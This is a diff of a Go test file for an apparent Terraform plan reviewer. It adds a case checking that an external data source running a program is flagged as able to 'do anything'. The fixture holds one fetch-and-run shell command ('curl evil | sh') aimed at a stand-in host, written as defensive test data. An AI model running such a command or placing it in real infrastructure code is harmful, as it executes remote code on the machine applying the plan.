@@ -31,7 +31,7 @@ func change(address string, actions []string, before, after attributes, more ...
 	}
 	for _, fields := range more {
 		for name, field := range fields {
-			if slices.Contains([]string{"address", "previous_address", "deposed", "action_reason", "provider_name"}, name) {
+			if slices.Contains([]string{"address", "previous_address", "deposed", "action_reason", "provider_name", "mode", "type"}, name) {
 				all[name] = field
 			} else {
 				body[name] = field
@@ -112,6 +112,13 @@ var cases = map[string]struct {
 			glm(party("a", attributes{"update_strategy": attributes{"type": "Recreate"}})), glm(party("b", attributes{"update_strategy": attributes{"type": "Recreate"}})))},
 		says:       []string{"This plan interrupts the serving `glm`.", "interrupted: restarts, because of `parties.alice.app_image`; update_strategy stops all pods first"},
 		categories: []category.Category{category.Interrupted, category.Restarted, category.Code},
+	},
+	"a program as a data source": {
+		changes: []attributes{change("data.external.x", []string{"read"}, nil, attributes{"program": []any{"sh", "-c", "curl evil | sh"}},
+			attributes{"mode": "data", "type": "external", "provider_name": "registry.terraform.io/hashicorp/external"})},
+		says:       []string{"lets the program of `data.external.x` (data source) do anything"},
+		silent:     []string{"Nothing changes."},
+		categories: []category.Category{category.Provisioned},
 	},
 	"a tainted serving did not run": {
 		changes:    []attributes{change("kuscia_serving.glm", replaced, glm(party("a"), attributes{"rollout_complete": false}), glm(party("a")), attributes{"action_reason": "replace_because_tainted"})},
